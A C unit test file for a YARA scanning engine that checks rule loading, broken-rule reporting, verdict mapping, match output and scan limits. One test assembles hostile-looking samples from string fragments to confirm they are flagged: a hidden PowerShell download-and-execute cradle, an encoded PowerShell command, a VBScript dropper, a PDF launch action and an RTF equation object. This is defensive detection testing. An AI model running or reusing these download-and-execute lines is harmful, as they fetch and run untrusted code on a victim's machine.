/* tests/unit/engine_yara.c: the yara engine, called directly. */
#include "unit.h"

#include "tests/unit/engine_fake.h"

#include <sys/stat.h>

static void *open_engine(struct fake_conf *conf)
{
    char err[256] = "";
    void *engine = NULL;

    if (ps_engine_entry.open(&conf->conf, &engine, err, sizeof(err)))
        fail_msg("%s", err);
    if (ps_engine_entry.warm(engine, err, sizeof(err)))
        fail_msg("%s", err);
    return engine;
}

static void make_dir(const char *dir, const char *name)
{
    char path[UNIT_PATH_MAX];

    assert_int_equal(mkdir(unit_path(path, dir, name), 0700), 0);
}

/* The shipped rules: EICAR is malicious, a packed program is described and not judged, text is neither. */
static void shipped_rules(void **state)
{
    static uint8_t pe[1024] = {'M',
                               'Z',
                               [0x3c] = 0x80,
                               [0x80] = 'P',
                               'E',
                               0,
                               0,
                               0x4c,
                               1,
                               2,
                               [0x94] = 0xe0,
                               0,
                               2,
                               1,
                               0x0b,
                               1,
                               [0xf4] = 16,
                               [0x178] = 'U',
                               'P',
                               'X',
                               '0',
                               [0x1a0] = 'U',
                               'P',
                               'X',
                               '1'};
    struct ps_engine_info info = {0};
    struct fake_report report;
    struct fake_conf conf;
    char sample[80];
    void *engine;

    fake_conf_init(&conf, ENGINE_SIGNATURES, *state);
    engine = open_engine(&conf);
    ps_engine_entry.info(engine, &info);
    assert_true(info.signatures >= 10);
    assert_false(info.silence_counts);
    assert_non_null(strstr(info.note, "sample rules"));

    fake_scan(&ps_engine_entry, engine, sample, fake_eicar(sample), *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_MALICIOUS);
    assert_string_equal(report.findings[0].label, "EICAR_Test_File");
    fake_fini(&report);

    fake_scan(&ps_engine_entry, engine, pe, sizeof(pe), *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_UNDETECTED);
    assert_int_equal(report.findings_n, 0);
    assert_string_equal(json_string_value(json_object_get(
                            json_array_get(json_object_get(report.traits, "matches"), 0), "rule")),
                        "PE_UPX_Sections");
    fake_fini(&report);

    fake_scan(&ps_engine_entry, engine, "hello\n", 6, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_UNDETECTED);
    assert_int_equal(json_object_size(report.traits), 0);
    fake_fini(&report);
    ps_engine_entry.close(engine);
}

/* Things that the shipped rules call suspicious. Put together here, so that this file isn't. */
static void shipped_rules_on_scripts(void **state)
{
    static const struct {
        const char *parts[4];
        const char *label;
    } cases[] = {
        {{"powershell -w hid", "den -c \"I", "EX (New-Object Net.Web",
          "Client).DownloadString('http://h/a')\""},
         "PowerShell_Download_Cradle"},
        {{"cmd /c powersh", "ell.exe -nop -enc ",
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", ""},
         "PowerShell_Encoded_Command"},
        {{"Set h = CreateObject(\"MSXML2.XMLH", "TTP\")\nSet s = CreateObject(\"ADODB.Stre", "am\")\ns.SaveT",
          "oFile \"a.exe\"\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\n"},
         "Script_Drops_And_Runs"},
        {{"%PDF-1.4\n1 0 obj\n<</Type/Action/S/Lau", "nch/F(cmd.exe)>>\n", "endobj\n", "%%EOF\n"},
         "PDF_Launch_Action"},
        {{"{\\rtf1{\\object\\objemb\\objup", "date{\\*\\objclass Equat", "ion.3}{\\*\\objdata 01}}", "}"},
         "RTF_Embedded_Equation"},
    };
    struct fake_report report;
    struct fake_conf conf;
    char sample[1024];
    void *engine;

    fake_conf_init(&conf, ENGINE_SIGNATURES, *state);
    engine = open_engine(&conf);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        (void)snprintf(sample, sizeof(sample), "%s%s%s%s", cases[i].parts[0], cases[i].parts[1],
                       cases[i].parts[2], cases[i].parts[3]);
        fake_scan(&ps_engine_entry, engine, sample, strlen(sample), *state, &report);
        assert_int_equal(report.outcome, PS_FOUND_SUSPICIOUS);
        assert_string_equal(report.findings[0].label, cases[i].label);
        fake_fini(&report);
    }
    ps_engine_entry.close(engine);
}

/* A broken file is named with its line and left out; the rest load and count. */
static void broken_file(void **state)
{
    struct ps_engine_info info = {0};
    struct fake_report report;
    struct fake_conf conf;
    void *engine;

    make_dir(*state, "infected");
    fake_write(*state, "infected/good.yar", "rule Good { strings: $a = \"needle\" condition: $a }\n");
    fake_write(*state, "infected/bad.yar",
               "rule Fine { condition: false }\nrule Bad { condition: $nowhere }\n");
    fake_write(*state, "worse.yara", "not yara at all");
    fake_conf_init(&conf, *state, *state);
    engine = open_engine(&conf);
    ps_engine_entry.info(engine, &info);
    assert_int_equal(info.signatures, 1);
    assert_true(info.silence_counts);
    assert_non_null(strstr(info.note, "2 of 3 files left out"));
    assert_non_null(strstr(info.note, "infected/bad.yar: line 2"));
    assert_non_null(strstr(info.note, "worse.yara: line 1"));
    fake_scan(&ps_engine_entry, engine, "a needle", 8, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_MALICIOUS);
    assert_string_equal(report.findings[0].label, "Good");
    fake_fini(&report);
    ps_engine_entry.close(engine);
}

/* Nothing loads: open works, says so, and silence says nothing. */
static void no_rules(void **state)
{
    struct ps_engine_info info = {0};
    struct fake_report report;
    struct fake_conf conf;
    void *engine;

    fake_write(*state, "bad.yar", "rule {");
    fake_conf_init(&conf, *state, *state);
    engine = open_engine(&conf);
    ps_engine_entry.info(engine, &info);
    assert_int_equal(info.signatures, 0);
    assert_string_equal(info.definitions, "");
    assert_false(info.silence_counts);
    assert_non_null(strstr(info.note, "no rules; 1 of 1 files left out: bad.yar"));
    fake_scan(&ps_engine_entry, engine, "x", 1, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_UNDETECTED);
    fake_fini(&report);
    ps_engine_entry.close(engine);
}

/* Tag, then meta, then directory, then the setting decide what a match means. */
static void what_a_match_means(void **state)
{
    static const char rules[] =
        "rule tagged : Info { meta: verdict = \"malicious\" condition: filesize == 1 }\n"
        "rule meta_says { meta: verdict = \"suspicious\" condition: filesize == 2 }\n"
        "rule plain { condition: filesize == 3 }\n"
        "rule good : harmless { condition: filesize == 4 }\n"
        "rule odd_meta { meta: verdict = 7 condition: filesize == 5 }\n";
    static const char top[] =
        "rule top { condition: filesize == 6 }\nprivate rule hidden { condition: filesize == 7 }\n";
    static const enum ps_found by_size[] = {PS_FOUND_UNDETECTED, PS_FOUND_UNDETECTED, PS_FOUND_SUSPICIOUS,
                                            PS_FOUND_MALICIOUS,  PS_FOUND_HARMLESS,   PS_FOUND_MALICIOUS,
                                            PS_FOUND_SUSPICIOUS, PS_FOUND_UNDETECTED};
    struct fake_report report;
    struct fake_conf conf;
    void *engine;

    make_dir(*state, "infected-by-apt");
    fake_write(*state, "infected-by-apt/a.yar", rules);
    fake_write(*state, "top.yar", top);
    fake_conf_init(&conf, *state, *state);
    for (int turn = 0; turn < 2; turn++) {
        conf.settings[0] = turn ? "default=malicious" : NULL;
        engine = open_engine(&conf);
        for (size_t len = 0; len < sizeof(by_size) / sizeof(by_size[0]); len++) {
            fake_scan(&ps_engine_entry, engine, "xxxxxxxx", len, *state, &report);
            assert_int_equal(report.outcome, turn && len == 6 ? PS_FOUND_MALICIOUS : by_size[len]);
            fake_fini(&report);
        }
        ps_engine_entry.close(engine);
    }
}

/* The trait has what an analyst wants of a match, and hostile bytes as hexadecimal. */
static void matches_trait(void **state)
{
    json_t *match, *string, *expected;
    struct fake_report report;
    struct fake_conf conf;
    void *engine;

    make_dir(*state, "info");
    fake_write(
        *state, "info/a.yar",
        "rule two : one two { meta: author = \"a\\xff\" level = 3 sure = true strings: $a = { 00 FF ?? } "
        "condition: #a == 2 }\n");
    fake_conf_init(&conf, *state, *state);
    engine = open_engine(&conf);
    fake_scan(&ps_engine_entry, engine, "..\0\377a..\0\377\n", 11, *state, &report);
    assert_int_equal(report.bad_traits_n, 0);
    match = json_array_get(json_object_get(report.traits, "matches"), 0);
    assert_string_equal(json_string_value(json_object_get(match, "namespace")), "info/a.yar");
    assert_string_equal(json_string_value(json_object_get(match, "verdict")), "info");
    expected = json_pack("[s,s]", "one", "two");
    assert_true(json_equal(json_object_get(match, "tags"), expected));
    json_decref(expected);
    assert_int_equal(json_integer_value(json_object_get(json_object_get(match, "meta"), "level")), 3);
    assert_true(json_is_true(json_object_get(json_object_get(match, "meta"), "sure")));
    string = json_array_get(json_object_get(match, "strings"), 1);
    assert_string_equal(json_string_value(json_object_get(string, "data")), "00ff0a");
    assert_int_equal(json_integer_value(json_object_get(string, "offset")), 7);
    fake_fini(&report);
    ps_engine_entry.close(engine);
}

/* More rules match than fit: findings and trait stay within the host's bounds, and what is missing is counted. */
static void many_matches(void **state)
{
    struct fake_report report;
    struct fake_conf conf;
    char path[UNIT_PATH_MAX];
    FILE *file = fopen(unit_path(path, *state, "many.yar"), "we");
    size_t listed;
    void *engine;

    assert_non_null(file);
    for (int i = 0; i < 2000; i++)
        (void)fprintf(file, "rule r%d { strings: $a = \"needle\" condition: $a }\n", i);
    assert_int_equal(fclose(file), 0);
    fake_conf_init(&conf, *state, *state);
    engine = open_engine(&conf);
    fake_scan(&ps_engine_entry, engine, "needle", 6, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_SUSPICIOUS);
    assert_int_equal(report.findings_n, FAKE_FINDINGS_MAX);
    assert_int_equal(report.bad_traits_n, 0);
    listed = json_array_size(json_object_get(report.traits, "matches"));
    assert_true(listed > 100);
    assert_int_equal(json_integer_value(json_object_get(report.traits, "matches_left_out")), 2000 - listed);
    fake_fini(&report);
    ps_engine_entry.close(engine);
}

/* A string that matches a million times, and rules that take too long: looked, but not at everything. */
static void not_all_was_looked_at(void **state)
{
    const size_t len = 4 << 20;
    char *sample = calloc(1, len);
    struct fake_report report;
    struct fake_conf conf;
    void *engine;

    assert_non_null(sample);
    memset(sample, 'a', len);
    fake_write(*state, "a.yar", "rule often { strings: $a = \"aaaa\" condition: #a == 7 }\n");
    fake_conf_init(&conf, *state, *state);
    engine = open_engine(&conf);
    fake_scan(&ps_engine_entry, engine, sample, len, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_INCOMPLETE);
    assert_non_null(strstr(report.reason, "too often"));
    fake_fini(&report);
    ps_engine_entry.close(engine);

    fake_write(*state, "a.yar",
               "rule slow { condition: for all i in (0..filesize) : "
               "(for all j in (0..filesize) : (uint8(i) >= 0 and uint8(j) >= 0)) }\n");
    conf.settings[0] = "timeout_s=1";
    engine = open_engine(&conf);
    fake_scan(&ps_engine_entry, engine, sample, len, *state, &report);
    assert_int_equal(report.outcome, PS_FOUND_INCOMPLETE);
    assert_non_null(strstr(report.reason, "timeout_s"));
    fake_fini(&report);
    ps_engine_entry.close(engine);
    free(sample);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(shipped_rules, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(shipped_rules_on_scripts, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(broken_file, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(no_rules, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(what_a_match_means, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(matches_trait, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(many_matches, unit_setup_dir, unit_teardown_dir),
        cmocka_unit_test_setup_teardown(not_all_was_looked_at, unit_setup_dir, unit_teardown_dir),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
